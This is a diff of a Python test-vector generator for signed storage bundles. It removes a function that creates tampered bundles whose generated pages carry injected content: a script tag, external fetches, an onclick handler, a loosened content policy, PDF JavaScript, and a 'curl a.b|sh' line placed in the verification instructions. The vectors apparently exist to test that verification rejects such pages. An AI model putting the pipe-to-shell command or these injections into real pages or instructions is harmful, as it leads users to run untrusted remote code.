@@ -19,28 +19,19 @@ import struct
 import sys
 import zlib
 from collections.abc import Callable, Iterator
-from contextlib import AbstractContextManager
 from dataclasses import replace
 from pathlib import Path
-from unittest import mock
 
 PROJECT = Path(__file__).resolve().parent.parent.parent.parent
 sys.path.insert(0, str(PROJECT))
 
-from storage.bundle import (  # noqa: E402 (path)
-    bag,
-    canonical,
-    container,
-    plan,
-    sheet,
-    sheet_pdf,
-    signing,
-)
+from storage.bundle import bag, canonical, container, signing  # noqa: E402 (path)
 from storage.bundle.container import Slot  # noqa: E402 (path)
 from storage.bundle.contents import BundleContents, Stamp  # noqa: E402 (path)
 from storage.bundle.opening import make_opening  # noqa: E402 (path)
 from storage.bundle.sealing import seal  # noqa: E402 (path)
 from tests.storage.bundle.samples import chance, contents, identity, key, made  # noqa: E402 (path)
+from tests.vectors.bundle.pages import pages  # noqa: E402 (path)
 
 HERE = Path(__file__).resolve().parent
 MEDIUM = "data/media/001.jpg"
@@ -321,44 +312,6 @@ def printed() -> Iterator[tuple[str, dict[str, str], bytes]]:
     yield "tampered-README.en.pdf", fault, zipped(files)
 
 
-def pages() -> Iterator[tuple[str, dict[str, str], bytes]]:
-    """Yield bundles whose own signer put other pages in than the program writes."""
-    html, pdf, text = "README.en.html", "README.en.pdf", "VERIFY.txt"
-    for name, path, about, change in (
-        ("script", html, "a script in the sheet", _put(b"</ul>", b"<script>1</script></ul>")),
-        ("outside", html, "a picture from outside", _put(b"<h1>", b'<img src="//a.b"><h1>')),
-        ("link", html, "a link that leads out", _put(b'href="VERIFY.txt"', b'href="//a.example"')),
-        ("handler", html, "what runs on a click", _put(b"<h1>", b'<h1 onclick="x()">')),
-        ("policy", html, "no policy against it", _put(b"default-src 'none'", b"default-src *")),
-        ("style", html, "a style that fetches", _put(b"</style>", b"p{src:url(//a)}</style>")),
-        ("action", pdf, "a PDF that does something", _put(b"/Lang ", b"/JS (x) /Lang ")),
-        ("commands", text, "other commands to paste", _put(b"sha256sum", b"curl a.b|sh")),
-    ):  # fmt: skip
-        with _instead(path, change):
-            data = made(replace(plain(), pdf=path == pdf))[0]
-        yield f"pages-{name}", {"expect": "pages", "part": path, "about": about}, data
-
-
-def _put(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
-    def change(content: bytes) -> bytes:
-        if old not in content:
-            raise ValueError("nothing to change")
-        return content.replace(old, new, 1)
-
-    return change
-
-
-def _instead(path: str, change: Callable[[bytes], bytes]) -> AbstractContextManager[object]:
-    """Have the program write another page than its own."""
-    module, name = {
-        "README.en.html": (sheet, "sheet"),
-        "README.en.pdf": (sheet_pdf, "sheet_pdf"),
-        "VERIFY.txt": (plan, "instructions"),
-    }[path]
-    own = getattr(module, name)
-    return mock.patch.object(module, name, lambda *given, **more: change(own(*given, **more)))
-
-
 def vectors() -> Iterator[tuple[str, dict[str, str], bytes]]:
     """Yield every vector: file name, head, bytes."""
     good = made(plain())[0]
@@ -380,7 +333,7 @@ def vectors() -> Iterator[tuple[str, dict[str, str], bytes]]:
     yield "sealed-tampered", {"expect": "media", "part": MEDIUM, "identity": secret}, inside
     twice = {"expect": "not-a-bundle", "identity": secret}
     yield "sealed-twice", twice, sealed(envelope, public)
-    yield from (*stamped(), *openings(), *printed(), *pages())
+    yield from (*stamped(), *openings(), *printed(), *pages(plain()))
     for name, expect, about, data in (*containers(), *statements()):
         part = {"part": PARTS[expect]} if expect in PARTS else {}
         yield name, {"expect": expect, **part, "about": about}, data
